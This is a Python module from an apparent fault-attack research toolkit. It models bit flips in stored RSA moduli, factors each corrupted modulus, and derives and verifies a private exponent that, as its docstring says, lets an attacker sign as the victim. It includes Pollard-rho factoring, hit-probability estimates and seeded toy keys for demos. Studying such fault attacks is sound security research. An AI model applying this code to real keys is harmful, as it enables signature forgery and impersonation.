"""
RSA public-key flips for HammerLab.

A bit flip in a stored RSA modulus N gives a new modulus N' that is usually
much easier to factor than N. Once N' is fully factored, the private
exponent for (N', e) follows from Carmichael's function, and anyone who
can present N' as the victim's key can sign with it.
"""

import logging
from dataclasses import dataclass, field
from functools import lru_cache
from math import isqrt, lcm
from typing import Any, Dict, List, Optional, Tuple

import numpy as np
from Crypto.Util.number import GCD, getPrime, inverse, isPrime

from error_handling import FactoringBudgetExceeded, InvalidInputError

logger = logging.getLogger("HAMMERLAB.Exploit.Rsa")

TRIAL_DIVISION_LIMIT = 1 << 16
DEFAULT_FACTOR_BUDGET = 200_000
DEFAULT_VERIFY_ROUNDS = 10
MAX_RHO_RESTARTS = 16


@dataclass(frozen=True)
class RecordLayout:
    """Bits of one stored key record: the modulus plus its framing."""
    modulus_bits: int = 4096
    framing_bits: int = 16

    def __post_init__(self):
        if self.modulus_bits < 1 or self.framing_bits < 0:
            raise InvalidInputError("record layout needs modulus_bits >= 1 and framing_bits >= 0")


@dataclass(frozen=True)
class RsaPublicKey:
    n: int
    e: int
    layout: RecordLayout = field(default_factory=RecordLayout)

    def __post_init__(self):
        if self.e < 3:
            raise InvalidInputError(f"public exponent {self.e} is below 3")
        if self.n <= self.e:
            raise InvalidInputError("modulus must exceed the public exponent")
        if self.n % 2 == 0:
            raise InvalidInputError("modulus must be odd")


def rsa_modulus_hit_probability(fill_fraction: float, layout: RecordLayout = RecordLayout()) -> float:
    """Chance that a random flip in memory lands inside some key's modulus."""
    if not 0.0 <= fill_fraction <= 1.0:
        raise InvalidInputError(f"fill fraction {fill_fraction} outside [0, 1]")
    return fill_fraction * layout.modulus_bits / (layout.modulus_bits + layout.framing_bits)


@lru_cache(maxsize=4)
def small_primes(limit: int = TRIAL_DIVISION_LIMIT) -> Tuple[int, ...]:
    sieve = np.ones(limit + 1, dtype=bool)
    sieve[:2] = False
    for p in range(2, isqrt(limit) + 1):
        if sieve[p]:
            sieve[p * p::p] = False
    return tuple(int(p) for p in np.flatnonzero(sieve))


class _Budget:
    """Counts polynomial evaluations spent by the rho search."""

    def __init__(self, limit: int):
        self.limit = limit
        self.spent = 0

    def spend(self, steps: int) -> None:
        self.spent += steps
        if self.spent > self.limit:
            raise FactoringBudgetExceeded(
                f"factoring budget of {self.limit} steps exhausted",
                context={"spent": self.spent},
            )


def _iroot(n: int, k: int) -> int:
    """Floor of the k-th root of n."""
    if n < 2:
        return n
    x = 1 << ((n.bit_length() + k - 1) // k)
    while True:
        y = ((k - 1) * x + n // x ** (k - 1)) // k
        if y >= x:
            return x
        x = y


def _perfect_power(n: int) -> Optional[Tuple[int, int]]:
    # n has no prime factor below the trial-division limit
    for k in range(2, n.bit_length() // (TRIAL_DIVISION_LIMIT.bit_length() - 1) + 1):
        root = _iroot(n, k)
        if root < 2:
            break
        if root ** k == n:
            return root, k
    return None


def _brent(n: int, c: int, budget: _Budget) -> int:
    """Pollard rho with Brent's cycle detection; may return n on failure."""
    y, r, q, g = 2, 1, 1, 1
    batch = 128
    x = ys = y
    while g == 1:
        x = y
        for _ in range(r):
            y = (y * y + c) % n
        budget.spend(r)
        k = 0
        while k < r and g == 1:
            ys = y
            steps = min(batch, r - k)
            for _ in range(steps):
                y = (y * y + c) % n
                q = q * abs(x - y) % n
            budget.spend(steps)
            g = GCD(q, n)
            k += batch
        r *= 2
    if g == n:
        g = 1
        while g == 1:
            ys = (ys * ys + c) % n
            budget.spend(1)
            g = GCD(abs(x - ys), n)
    return g


def _split(n: int, budget: _Budget) -> int:
    for c in range(1, MAX_RHO_RESTARTS + 1):
        d = _brent(n, c, budget)
        if 1 < d < n:
            return d
    raise FactoringBudgetExceeded(f"rho found no split after {MAX_RHO_RESTARTS} restarts")


def factorize(n: int, budget: int = DEFAULT_FACTOR_BUDGET) -> Dict[int, int]:
    """
    Prime factorization by trial division, then Pollard rho (Brent).

    Args:
        n: Integer >= 1
        budget: Maximum rho polynomial evaluations

    Returns:
        Mapping prime -> exponent

    Raises:
        FactoringBudgetExceeded: The budget ran out before n was fully factored
    """
    if n < 1:
        raise InvalidInputError(f"cannot factor {n}")
    factors: Dict[int, int] = {}
    remaining = n
    for p in small_primes():
        if p * p > remaining:
            break
        while remaining % p == 0:
            factors[p] = factors.get(p, 0) + 1
            remaining //= p

    tracker = _Budget(budget)
    stack = [remaining]
    while stack:
        m = stack.pop()
        if m == 1:
            continue
        if isPrime(m):
            factors[m] = factors.get(m, 0) + 1
            continue
        power = _perfect_power(m)
        if power:
            root, k = power
            stack.extend([root] * k)
            continue
        d = _split(m, tracker)
        stack.extend([d, m // d])
    return dict(sorted(factors.items()))


def carmichael_lambda(factors: Dict[int, int]) -> int:
    """Carmichael's function from a prime factorization."""
    result = 1
    for p, k in factors.items():
        if p == 2:
            term = 1 if k == 1 else 2 if k == 2 else 1 << (k - 2)
        else:
            term = p ** (k - 1) * (p - 1)
        result = lcm(result, term)
    return result


def _random_below(rng: np.random.Generator, n: int) -> int:
    width = (n.bit_length() + 7) // 8 + 8
    return int.from_bytes(rng.bytes(width), "big") % n


def _verify(n: int, e: int, d: int, rounds: int, rng: np.random.Generator) -> bool:
    """Encrypt-decrypt round trips on random m coprime to n."""
    if n == 2:
        return pow(pow(1, e, n), d, n) == 1
    checked = attempts = 0
    while checked < rounds and attempts < 64 * rounds:
        attempts += 1
        m = 1 + _random_below(rng, n - 1)
        if GCD(m, n) != 1:
            continue
        if pow(pow(m, e, n), d, n) != m:
            return False
        checked += 1
    return checked == rounds


@dataclass
class KeyFlipResult:
    """Outcome of attacking one corrupted modulus."""
    bit: Optional[int]
    modulus: int
    status: str
    reason: str = ""
    factors: Dict[int, int] = field(default_factory=dict)
    private_exponent: Optional[int] = None
    verified: bool = False

    @property
    def recovered(self) -> bool:
        return self.status == "recovered"

    def to_dict(self) -> Dict[str, Any]:
        return {
            "bit": self.bit,
            "modulus": hex(self.modulus),
            "status": self.status,
            "reason": self.reason,
            "factors": [[hex(p), k] for p, k in self.factors.items()],
            "private_exponent": hex(self.private_exponent) if self.private_exponent is not None else None,
            "verified": self.verified,
        }


def analyze_modulus(modulus: int, e: int, bit: Optional[int] = None, budget: int = DEFAULT_FACTOR_BUDGET,
                    verify_rounds: int = DEFAULT_VERIFY_ROUNDS, seed: int = 0) -> KeyFlipResult:
    """Try to derive a working private exponent for (modulus, e)."""
    if modulus < 2:
        return KeyFlipResult(bit, modulus, "infeasible", "degenerate modulus")
    try:
        factors = factorize(modulus, budget)
    except FactoringBudgetExceeded as e_budget:
        logger.debug(f"bit {bit}: {e_budget.message}")
        return KeyFlipResult(bit, modulus, "infeasible", "factoring budget exhausted")
    lam = carmichael_lambda(factors)
    if GCD(e, lam) != 1:
        return KeyFlipResult(bit, modulus, "infeasible", "exponent not invertible", factors)
    d = inverse(e, lam)
    rng = np.random.default_rng([seed, 0 if bit is None else bit + 1])
    if not _verify(modulus, e, d, verify_rounds, rng):
        logger.warning(f"bit {bit}: derived exponent failed verification")
        return KeyFlipResult(bit, modulus, "infeasible", "verification failed", factors)
    return KeyFlipResult(bit, modulus, "recovered", "", factors, d, True)


def analyze_key_flip(key: RsaPublicKey, bit: int, budget: int = DEFAULT_FACTOR_BUDGET,
                     verify_rounds: int = DEFAULT_VERIFY_ROUNDS, seed: int = 0) -> KeyFlipResult:
    """
    Flip one modulus bit and try to recover a private exponent.

    Args:
        key: The intact public key
        bit: Bit index, 0 is the least significant bit
        budget: Rho steps before giving up
        verify_rounds: Random round trips required before a key is emitted
        seed: Seed for the verification messages

    Returns:
        KeyFlipResult; only ``recovered`` results carry a private exponent
    """
    width = max(key.n.bit_length(), key.layout.modulus_bits)
    if not 0 <= bit < width:
        raise InvalidInputError(f"bit {bit} outside the {width}-bit modulus")
    return analyze_modulus(key.n ^ (1 << bit), key.e, bit, budget, verify_rounds, seed)


def analyze_all_bits(key: RsaPublicKey, budget: int = DEFAULT_FACTOR_BUDGET,
                     verify_rounds: int = DEFAULT_VERIFY_ROUNDS, seed: int = 0) -> List[KeyFlipResult]:
    results = [analyze_key_flip(key, bit, budget, verify_rounds, seed) for bit in range(key.n.bit_length())]
    recovered = sum(r.recovered for r in results)
    logger.info(f"{len(results)} modulus flips analysed, {recovered} keys recovered")
    return results


@dataclass(frozen=True)
class ToyKey:
    """A reproducible desk-scale key pair."""
    public: RsaPublicKey
    p: int
    q: int

    @property
    def private_exponent(self) -> int:
        return inverse(self.public.e, lcm(self.p - 1, self.q - 1))


def generate_toy_key(bits: int = 64, e: int = 65537, seed: int = 0) -> ToyKey:
    """Seeded key generation for tests and demos; not for real use."""
    if bits < 16:
        raise InvalidInputError("toy keys need at least 16 bits")
    rng = np.random.default_rng(seed)
    half = bits // 2
    for _ in range(1000):
        p = getPrime(half, randfunc=rng.bytes)
        q = getPrime(bits - half, randfunc=rng.bytes)
        n = p * q
        if p == q or n.bit_length() != bits or n <= e:
            continue
        if GCD(e, lcm(p - 1, q - 1)) != 1:
            continue
        return ToyKey(RsaPublicKey(n, e, RecordLayout(bits, 0)), min(p, q), max(p, q))
    raise InvalidInputError(f"no {bits}-bit key with e={e} found")
